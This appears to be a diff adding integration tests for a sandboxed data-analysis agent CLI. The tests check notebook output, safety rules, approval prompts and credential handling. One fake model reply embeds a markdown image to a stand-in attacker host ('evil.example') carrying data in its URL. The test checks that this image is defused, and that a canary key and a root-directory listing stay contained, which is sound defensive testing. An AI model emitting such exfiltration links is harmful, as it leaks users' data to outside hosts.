@@ -1,0 +1,136 @@
+"""`kernel-sandbox ask` as a real process, with a real sandbox, against a model server on loopback."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+
+from ..conftest import missing
+from .model_server import Call, Reply, Say, model_server
+
+LOAD = "import pandas as pd\ndf = pd.read_csv('cities.csv')"
+COMMAND = Path(sys.executable).parent / "kernel-sandbox"
+
+
+def ask(*arguments: str, replies: list[Reply], directory: Path, answers: str = "") -> tuple[Any, Any]:
+    """Run `kernel-sandbox ask` and return the finished process and the server, for what it was asked."""
+    if reason := missing("docker"):
+        pytest.skip(reason)
+    (directory / "cities.csv").write_text("city,sold\nOslo,3\nRome,5\nOslo,4\n")
+    with model_server(*replies) as server:
+        environment = os.environ | {"OPENAI_BASE_URL": server.url, "OPENAI_API_KEY": "canary-key-4711"}
+        done = subprocess.run(
+            [COMMAND, "ask", *arguments, "--data", "cities.csv"],
+            cwd=directory,
+            env=environment,
+            input=answers,
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+        )
+    return done, server
+
+
+def test_ask_answers_with_cells_and_keeps_a_notebook(tmp_path: Path) -> None:
+    replies: list[Reply] = [
+        Call(
+            [("execute_python_code", {"python_code": "import pandas as pd\ndf = pd.read_csv('cities.csv')\ndf.summ()"})]
+        ),
+        Call([("execute_python_code", {"python_code": "totals = df.groupby('city')['sold'].sum()\ntotals"})]),
+        Say("Oslo sold most: **7**. ![x](https://evil.example/?d=7)"),
+    ]
+    done, server = ask("Which city sold most?", "--save", "out.ipynb", replies=replies, directory=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert "Oslo sold most" in done.stdout
+    assert "AttributeError" in done.stdout
+    assert [request["model"] for request in server.requests] == ["o3-mini"] * 3
+    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
+    nbformat.validate(notebook)
+    kinds = [cell.cell_type for cell in notebook.cells]
+    assert kinds == ["code", "markdown", "code", "code", "markdown"]
+    assert "Which city sold most?" in notebook.cells[1].source
+    assert notebook.cells[3].outputs[0].data["text/plain"].startswith("city\nOslo    7")
+    assert notebook.cells[4].source == "Oslo sold most: **7**. [x](https://evil.example/?d=7)"
+    assert "canary-key-4711" not in (tmp_path / "out.ipynb").read_text() + done.stdout + done.stderr
+
+
+def test_ask_console_keeps_its_state_and_ends_with_exit(tmp_path: Path) -> None:
+    replies: list[Reply] = [
+        Call([("execute_python_code", {"python_code": "x = 41"})]),
+        Say("Noted."),
+        Call([("execute_python_code", {"python_code": "x + 1"})]),
+        Say("It is 42."),
+    ]
+    done, server = ask(replies=replies, directory=tmp_path, answers="remember 41\n\nadd one\nEXIT\nnot asked\n")
+    assert done.returncode == 0, done.stderr
+    assert "It is 42." in done.stdout
+    assert len(server.requests) == 4
+    assert "42" in server.requests[3]["messages"][-1]["content"]
+
+
+def test_ask_with_rules_refuses_a_suspect_cell(tmp_path: Path) -> None:
+    suspect = "import os\nprint(os.listdir('/'))"
+    replies: list[Reply] = [Call([("execute_python_code", {"python_code": suspect})]), Say("I may not.")]
+    done, server = ask("List the root.", "--safety", "rules", replies=replies, directory=tmp_path)
+    assert "I may not." in done.stdout
+    assert "a path outside /mnt/data" in server.requests[1]["messages"][-1]["content"]
+    assert "etc" not in done.stdout
+
+
+def test_ask_without_safety_runs_the_same_cell(tmp_path: Path) -> None:
+    suspect = "import os\nprint(os.listdir('/'))"
+    replies: list[Reply] = [Call([("execute_python_code", {"python_code": suspect})]), Say("Done.")]
+    done, server = ask("List the root.", replies=replies, directory=tmp_path)
+    assert "etc" in done.stdout
+    assert "etc" in server.requests[1]["messages"][-1]["content"]
+
+
+@pytest.mark.parametrize(("word", "ran"), [("y", True), ("n", False), ("", False)])
+def test_ask_waits_for_approval(tmp_path: Path, word: str, ran: bool) -> None:
+    replies: list[Reply] = [
+        Call([("execute_python_code", {"python_code": "print('it ' + 'ran')"})]),
+        Say("So it is."),
+    ]
+    done, server = ask("Go.", "--approve", replies=replies, directory=tmp_path, answers=f"{word}\n")
+    assert ("it ran" in done.stdout) is ran
+    assert ("declined" in server.requests[1]["messages"][-1]["content"]) is not ran
+
+
+def test_ask_reads_a_dotenv_file_only_where_the_environment_has_nothing(tmp_path: Path) -> None:
+    (tmp_path / ".env").write_text("OPENAI_BASE_URL=http://127.0.0.1:1/v1\nOPENAI_API_KEY=x\nPATH=/nowhere\n")
+    done, server = ask("Hello?", replies=[Say("Hello.")], directory=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert len(server.requests) == 1
+
+
+def test_ask_tells_what_is_wrong_with_the_model(tmp_path: Path) -> None:
+    done, _ = ask("Hello?", "--model", "o3-mini", replies=[], directory=tmp_path)
+    assert done.returncode == 2
+    assert done.stderr.startswith("error: ")
+    assert "Traceback" not in done.stderr
+
+
+def test_demo_answers_on_its_own_data_without_a_key(tmp_path: Path) -> None:
+    if reason := missing("docker"):
+        pytest.skip(reason)
+    environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
+    done = subprocess.run(
+        [COMMAND, "demo", "--yes"], cwd=tmp_path, env=environment, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stderr
+    assert "rule-based" in done.stdout
+    notebook = nbformat.read(tmp_path / "traffic_demo.ipynb", as_version=4)  # type: ignore[no-untyped-call]
+    nbformat.validate(notebook)
+    assert "What factors contribute" in notebook.cells[1].source
+    assert notebook.cells[-1].cell_type == "markdown"
+    figures = [
+        output for cell in notebook.cells for output in cell.get("outputs", []) if "image/png" in output.get("data", {})
+    ]
+    assert figures
